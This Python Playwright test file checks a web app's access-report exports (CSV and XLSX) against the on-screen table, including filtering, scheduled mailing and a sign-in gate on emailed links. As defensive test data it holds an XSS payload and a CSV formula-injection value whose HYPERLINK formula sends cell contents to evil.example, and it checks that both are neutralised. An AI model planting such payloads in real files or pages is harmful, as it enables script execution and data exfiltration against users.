"""The access report: what is downloaded is what is on the screen, and what was set up."""

import csv
import io
import re
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
from playwright.async_api import Download, expect

from tests.journeys.walking import OWNER, OWNER_ADDRESS, PASSWORD, Desk, Firm, come_in

COLUMNS = [
    'contact_id', 'name', 'kind', 'organisation', 'email', 'login_email', 'portal_access', 'status', 'invited_at',
    'invited_by', 'invitation_expires_at', 'joined_at', 'last_sign_in_at', 'last_sign_in_method', 'password_set',
    'two_factor', 'two_factor_enrolled_at', 'active_sessions', 'email_status', 'created_at',
]  # fmt: skip
TIMES = ('invited_at', 'invitation_expires_at', 'joined_at', 'last_sign_in_at', 'two_factor_enrolled_at', 'created_at')
MOMENT = re.compile(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ')
MARKUP = '<img src=x onerror="document.title=1">'
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Open")'
RIGHT_TO_LEFT = 'שרה לוי'
EMOJI = '🦊 Füchse & Söhne, "Fein" GmbH'
HARMLESS = "'"  # goes before what a spreadsheet would run


async def test_the_download_is_the_screen_cell_by_cell(firm: Firm, tmp_path: Path) -> None:
    """Report downloaded and compared cell by cell: with the report on screen, and with what was set up."""
    desk = await firm.owner('/staff/contacts')
    began = datetime.now(UTC).replace(microsecond=0)
    await desk.new_contact(MARKUP, 'markup@evil.example', access=True)
    await desk.new_contact(FORMULA, 'formula@evil.example', '@SUM(1+1)')
    await desk.new_contact(RIGHT_TO_LEFT, 'sara@levi.example', access=True)
    await desk.new_contact(EMOJI, 'fuchs@fein.example', kind='Organisation')
    split = await desk.new_contact('Zwei\r\nZeilen', organisation=' Viel   Raum\nund mehr ')
    await desk.invite(MARKUP)
    await desk.invite('clara@weiss.example')
    client = await firm.client()
    await come_in(client, await desk.magic_link(RIGHT_TO_LEFT))
    await expect(client.get_by_role('heading', level=2, name=RIGHT_TO_LEFT, exact=True)).to_be_visible()
    await firm.sink.wait_for(2)

    downloaded = await _download(desk, '/staff', tmp_path)
    assert await _download(desk, '/staff/access-report', tmp_path) == downloaded, 'both buttons give the same'
    rows = list(csv.DictReader(io.StringIO(downloaded), strict=True))
    await desk.page.wait_for_function('document.querySelectorAll("tbody tr").length === 6')
    table = desk.page.get_by_role('table', name='Access report')
    seen: list[list[str]] = await table.evaluate(
        '(table) => [...table.rows].map(r => [...r.cells].map(c => c.textContent))'
    )
    heads = table.get_by_role('columnheader')
    titles = [(await one.inner_text()).split('\n') for one in await heads.all()]
    assert [name for _, name in titles] == COLUMNS
    assert all(title[:1].isupper() and '_' not in title for title, _ in titles), 'titles that people read'
    assert len(set(seen[0])) == len(COLUMNS)
    assert await desk.page.title() != '1'
    assert len(seen) == 7
    for on_screen, row in zip(seen[1:], rows, strict=True):
        assert list(row) == COLUMNS
        assert on_screen == [_as_typed(cell) for cell in row.values()]

    by_name = {_as_typed(row['name']): row for row in rows}
    assert by_name.keys() == {MARKUP, FORMULA, RIGHT_TO_LEFT, EMOJI, await _name_of(desk, split), 'clara@weiss.example'}
    until = datetime.now(UTC)
    for row in rows:
        for column in TIMES:
            assert not row[column] or MOMENT.fullmatch(row[column]), (column, row[column])
        assert began <= datetime.fromisoformat(row['created_at']) <= until
        assert row['password_set'] == row['two_factor'] == 'no'
    _check(by_name[MARKUP], kind='person', email='markup@evil.example', portal_access='yes', status='invited',
           invited_by=OWNER, email_status='sent', active_sessions='0', joined_at='')  # fmt: skip
    invited_at, expires = (datetime.fromisoformat(by_name[MARKUP][one]) for one in TIMES[:2])
    assert expires - invited_at == timedelta(days=7)
    _check(by_name[FORMULA], name=HARMLESS + FORMULA, organisation=HARMLESS + '@SUM(1+1)', portal_access='no',
           status='no_access', invited_at='', last_sign_in_method='')  # fmt: skip
    _check(by_name[RIGHT_TO_LEFT], status='joined', login_email='sara@levi.example', invited_at='',
           last_sign_in_method='magic_link', active_sessions='1')  # fmt: skip
    joined = by_name[RIGHT_TO_LEFT]
    assert joined['joined_at'] == joined['last_sign_in_at'] != ''
    _check(by_name[EMOJI], kind='organisation', email='fuchs@fein.example', status='no_access')
    _check(by_name['clara@weiss.example'], status='invited', invited_by=OWNER, kind='person')
    _check(rows[4], email='', login_email='', status='no_access', organisation=await _organisation_of(desk))


def _check(row: dict[str, str], **expected: str) -> None:
    assert {name: row[name] for name in expected} == expected


def _as_typed(cell: str) -> str:
    """What stood there before it was made harmless."""
    return cell[1:] if re.match(r"'[=+\-@\t\r\n]", cell) else cell


async def _download(desk: Desk, path: str, folder: Path) -> str:
    """Through the button; the file's bytes are what the contract says of it."""
    await desk.go(path)
    async with desk.page.expect_download() as downloading:
        await desk.button('Export access report').click()
    download = await downloading.value
    assert re.fullmatch(r'access-report-\d{4}-\d\d-\d\d\.csv', download.suggested_filename)
    target = folder / path.strip('/').replace('/', '-')
    await download.save_as(target)
    raw = target.read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf' + ','.join(COLUMNS).encode() + b'\r\n')
    assert raw.endswith(b'\r\n')
    assert raw.count(b'\n') == raw.count(b'\r\n') == 7, 'a header and six contacts, a line each'
    return raw.decode('utf-8-sig')


async def _name_of(desk: Desk, contact_id: int) -> str:
    await desk.open_contact(contact_id)
    return await desk.page.get_by_role('heading', level=1).inner_text()


async def _organisation_of(desk: Desk) -> str:
    return await desk.page.locator('.fy-headsub bdi').inner_text()


async def test_a_filter_holds_for_the_sheet_and_for_the_mail_that_announces_it(firm: Firm, tmp_path: Path) -> None:
    """Looked at by status, downloaded as a spreadsheet, scheduled; the link in the mail asks who one is first."""
    desk = await firm.owner('/staff/contacts')
    await desk.new_contact('Ann', 'ann@x.example')
    await desk.invite('clara@weiss.example')
    await desk.go('/staff/access-report')
    picture = desk.page.get_by_role('img', name=re.compile('Of 2 contacts: Invited 1 .50 %., No access 1 .50 %.'))
    await expect(picture).to_be_visible()
    await desk.page.get_by_role('button', name=re.compile('^Invited 1')).click()
    await expect(desk.page).to_have_url(f'{firm.url}/staff/access-report?status=invited')
    await expect(desk.page.get_by_role('table', name='Access report').locator('tbody tr')).to_have_count(1)
    async with desk.page.expect_download() as downloading:
        await desk.button('Export as XLSX').click()
    assert await _names_in(await downloading.value, tmp_path) == ['clara@weiss.example']

    await _schedule(desk)
    with closing(sqlite3.connect(firm.served.data_dir / 'foyer.sqlite3', isolation_level=None)) as database:
        database.execute("UPDATE report_schedule SET next_at = '2026-01-01 00:00:00+00:00'")
    await _schedule(desk)  # which wakes the clock
    rows = desk.page.get_by_text('Every Monday at 08:00')
    await expect(rows).to_have_count(2)
    mail = await firm.sink.wait_for(OWNER_ADDRESS)
    link = re.search(r'http://\S+/staff/access-report\S+', mail.text)
    assert link

    stranger = await (await firm.browser.new_context()).new_page()
    await stranger.goto(link[0])
    await stranger.get_by_label('Email').fill(OWNER_ADDRESS)
    await stranger.get_by_label('Password').fill(PASSWORD)
    async with stranger.expect_download() as downloading:
        await stranger.get_by_role('button', name='Sign in', exact=True).click()
    assert await _names_in(await downloading.value, tmp_path) == ['clara@weiss.example']
    await expect(stranger).to_have_url(f'{firm.url}/staff/access-report?status=invited')

    await desk.page.get_by_role('button', name=re.compile('^Delete: every Monday')).first.click()
    await desk.dialog.get_by_role('button', name='Delete', exact=True).click()
    await expect(rows).to_have_count(1)


async def _schedule(desk: Desk) -> None:
    await desk.button('Schedule').click()
    await expect(desk.dialog.get_by_text('Invited.')).to_be_visible()
    await desk.dialog.get_by_role('button', name='Save', exact=True).click()
    await expect(desk.dialog).to_have_count(0)


async def _names_in(download: Download, folder: Path) -> list[str]:
    assert re.fullmatch(r'access-report-\d{4}-\d\d-\d\d\.xlsx', download.suggested_filename)
    await download.save_as(folder / download.suggested_filename)
    (sheet,) = openpyxl.load_workbook(folder / download.suggested_filename).worksheets
    return [str(row[1]) for row in sheet.iter_rows(min_row=2, values_only=True)]
